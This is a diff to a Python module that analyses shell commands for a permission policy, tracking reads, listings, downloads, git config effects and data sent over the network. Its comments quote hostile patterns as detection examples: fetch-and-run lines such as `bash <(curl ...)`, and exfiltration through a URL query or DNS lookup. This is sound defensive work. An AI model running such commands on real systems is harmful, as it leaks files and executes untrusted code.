@@ -34,7 +34,7 @@ import re
 from dataclasses import dataclass, replace
 from typing import Any
 
-from policy.analysis import git, literal, programs
+from policy.analysis import git, literal, programs, readonly
 from policy.analysis import paths as _paths
 from policy.analysis import shell as _shell
 from policy.analysis.operands import UNKNOWN, Facts, is_unknown, unique
@@ -67,6 +67,8 @@ class Command:
     assignments: tuple[str, ...] = ()
     cwd: str = ""
     reads: tuple[str, ...] = ()
+    #: Paths whose names and metadata it prints, never contents (`ls`, `find`, `stat`).
+    lists: tuple[str, ...] = ()
     writes: tuple[str, ...] = ()
     deletes: tuple[str, ...] = ()
     recursive: bool = False
@@ -78,6 +80,10 @@ class Command:
     privileged: bool = False
     forks: bool = False
     variables: tuple[str, ...] = ()
+    #: It only reads and prints: a program with no option that acts
+    #: (policy.analysis.readonly), no writes, network, hidden or spawned code, no
+    #: wrapper and no assignment in effect.
+    reads_only: bool = False
 
     def to_cel(self) -> dict[str, Any]:
         return {
@@ -94,6 +100,7 @@ class Command:
             "assignments": list(self.assignments),
             "cwd": self.cwd,
             "reads": list(self.reads),
+            "lists": list(self.lists),
             "writes": list(self.writes),
             "deletes": list(self.deletes),
             "recursive": self.recursive,
@@ -105,6 +112,7 @@ class Command:
             "privileged": self.privileged,
             "forks": self.forks,
             "variables": list(self.variables),
+            "reads_only": self.reads_only,
         }
 
 
@@ -157,6 +165,7 @@ def _freeze(f: Facts) -> Command:
         assignments=c.assignments,
         cwd=_show_dir(f.cwd),
         reads=unique(f.reads),
+        lists=unique(f.lists),
         writes=unique(f.writes),
         deletes=unique(f.deletes),
         recursive=f.recursive,
@@ -168,6 +177,17 @@ def _freeze(f: Facts) -> Command:
         privileged=f.privileged,
         forks=f.forks,
         variables=unique(f.variables),
+        reads_only=_reads_only(f),
+    )
+
+
+def _reads_only(f: Facts) -> bool:
+    c = f.cmd
+    return (
+        not (c.wrappers or c.assignments or (c.dynamic and not c.name))
+        and not (f.writes or f.deletes or f.sends or f.scripts or f.argvs)
+        and not (f.hidden or f.network or f.downloaded or f.privileged or f.forks)
+        and readonly.reads_only(c.name, c.args)
     )
 
 
@@ -222,7 +242,18 @@ def _dataflow(facts: list[Facts]) -> None:
         pipe, _ = f.cmd.pipe
         if pipe:
             by_pipe.setdefault(pipe, []).append(f)
-    for f in facts:
+    settings: list[str] = []  # `git config KEY VALUE` earlier in the line
+    for index, f in enumerate(facts):
+        if f.cmd.name == "git" and settings and f.subcommand != "config":
+            # later git commands run with what the line configured (an alias, a push
+            # refspec, clean.requireForce): judged as `git -c KEY=VALUE ...`
+            given = [w for pair in settings for w in ("-c", pair)]
+            argv = (f.cmd.argv[0], *given, *f.cmd.args)
+            f = facts[index] = programs.facts_of(replace(f.cmd, argv=argv, args=argv[1:]), f.home)
+        if f.cmd.name == "git":
+            setting = git.config_setting(f.cmd.args)
+            if setting is not None:
+                settings.append(setting)
         cmd = f.cmd
         upstream = [
             other
@@ -240,6 +271,7 @@ def _dataflow(facts: list[Facts]) -> None:
         # where the link points; through anything else it made, unknown
         if created:
             f.reads = [_through_created(p, created, links) for p in f.reads]
+            f.lists = [_through_created(p, created, links) for p in f.lists]
             f.writes = [_through_created(p, created, links) for p in f.writes]
             f.deletes = [_through_created(p, created, links) for p in f.deletes]
             f.runs_files = [_through_created(p, created, links) for p in f.runs_files]
@@ -278,13 +310,17 @@ def _dataflow(facts: list[Facts]) -> None:
             f.downloaded = True
         start, end = cmd.inner
         inside = facts[start:end] if end > start else []
+        if f.network and f.hosts:
+            # `curl "https://x/?d=$(base64 f)"`, `dig $(cat f).x`: what a substitution
+            # in its words prints goes out with it
+            f.sends += [p for i in inside if i.cmd.name in _PRINTERS for p in i.reads]
         runs_code = (
             f.hidden
             or f.runs_files
             or f.runs_stdin
             or cmd.name in ("eval", "source", ".")
             or cmd.name in programs.SHELLS
-            or cmd.name in programs.INTERPRETERS
+            or programs.language_of(cmd.name) != ""
         )
         # `sh -c "$(curl ...)"`, `bash <(curl ...)`, `eval "$(wget -O- ...)"`
         if (
@@ -297,16 +333,27 @@ def _dataflow(facts: list[Facts]) -> None:
         runs = [r.lstrip(UNKNOWN) for r in f.runs_files]
         if cmd.argv and "/" in cmd.argv[0]:
             runs.append(f.at(cmd.argv[0]))
-        if any(
-            r in downloaded_files
-            or any(r.startswith(d.rstrip("/") + "/") for d in downloaded_files)
-            for r in runs
-        ):
+        if any(_below_any(r, downloaded_files) for r in runs):
             f.downloaded = True
+        if (
+            cmd.name in _PROJECT_RUNNERS
+            and downloaded_files
+            and (
+                _below_any(f.cwd or "", downloaded_files)
+                or any(_below_any(r, downloaded_files) for r in f.reads)
+            )
+        ):
+            f.downloaded = True  # `git clone URL x && make -C x`: the project runs
         if f.network:
             # what a networked command writes came over the network (`openssl
             # s_client ... > x.sh`, `git clone URL dir`)
             downloaded_files.update(f.downloads, (p for p in f.writes if not is_unknown(p)))
+        elif any(u.network for u in upstream) or any(
+            _below_any(r, downloaded_files) for r in f.reads
+        ):
+            # ... and so is what is made from it (`curl | tee x.sh`, `curl | tar x`,
+            # `gunzip x.gz`)
+            downloaded_files.update(p for p in f.writes if not is_unknown(p))
         created += [p for p in f.writes if not is_unknown(p) and p not in f.deletes]
         links.update(f.links)
         text = _literal_output(cmd, upstream)
@@ -315,12 +362,18 @@ def _dataflow(facts: list[Facts]) -> None:
                 written[target] = text
 
 
+def _below_any(path: str, places: set[str]) -> bool:
+    """`path` is one of `places` or below one."""
+    path = path.lstrip(UNKNOWN)
+    return bool(path) and any(path == d or path.startswith(d.rstrip("/") + "/") for d in places)
+
+
 def _listed_by(f: Facts) -> list[str]:
     """The file names a command upstream of xargs prints: what find finds (as
     `find -exec` gets them), else what it reads."""
     if f.cmd.name == "find":
         return [f.at(p) for p in _shell.find_found(list(f.cmd.args))]
-    return f.reads
+    return f.reads + f.lists
 
 
 def _mentioned(f: Facts, written: dict[str, str]) -> list[str]:
@@ -348,6 +401,11 @@ def _through_created(path: str, created: list[str], links: dict[str, str]) -> st
     return path
 
 
+#: Programs that print what they read (so a substitution of them carries the file).
+_PRINTERS = frozenset(
+    "cat tac head tail base64 base32 basenc xxd od hexdump gzip zcat bzip2 bzcat xz xzcat "
+    "zstd tar zip sed awk gawk cut tr sort uniq jq yq strings rev openssl paste column".split()
+)
 #: Programs that run what a project's manifest says (scripts, hooks, recipes).
 _PROJECT_RUNNERS = frozenset(
     "npm pnpm yarn bun composer pip pip3 vagrant cmake make gmake rake bundle gradle mvn "
@@ -387,21 +445,47 @@ def _on_disk(line: Line, home: str) -> Line:
 
 def _resolve_command(command: Command, home: str) -> Command:
     reads = resolve_all(command.reads, home)
+    lists = resolve_all(command.lists, home)
     writes = resolve_all(command.writes, home)
     deletes = resolve_all(command.deletes, home, keep_patterns=True)
     sends = resolve_all(command.sends, home)
     hidden = command.hidden
     if command.name == "git" and not hidden:
-        hidden = git.repo_code(command.cwd)
-    if (reads, writes, deletes, sends, hidden) == (
+        hidden = git.repo_code(command.cwd, _git_dir(command))
+    if (reads, lists, writes, deletes, sends, hidden) == (
         command.reads,
+        command.lists,
         command.writes,
         command.deletes,
         command.sends,
         command.hidden,
     ):
         return command
-    return replace(command, reads=reads, writes=writes, deletes=deletes, sends=sends, hidden=hidden)
+    return replace(
+        command,
+        reads=reads,
+        lists=lists,
+        writes=writes,
+        deletes=deletes,
+        sends=sends,
+        hidden=hidden,
+        reads_only=command.reads_only and not hidden,
+    )
+
+
+def _git_dir(command: Command) -> str:
+    """The repository a git command names with `--git-dir`, located; "" if none."""
+    args = list(command.args)
+    for index, arg in enumerate(args):
+        if arg == "--git-dir" and index + 1 < len(args):
+            given = args[index + 1]
+        elif arg.startswith("--git-dir="):
+            given = arg.split("=", 1)[1]
+        else:
+            continue
+        base = command.cwd if command.cwd.startswith("/") else "/"
+        return posixpath.normpath(posixpath.join(base, given))
+    return ""
 
 
 def resolve_all(
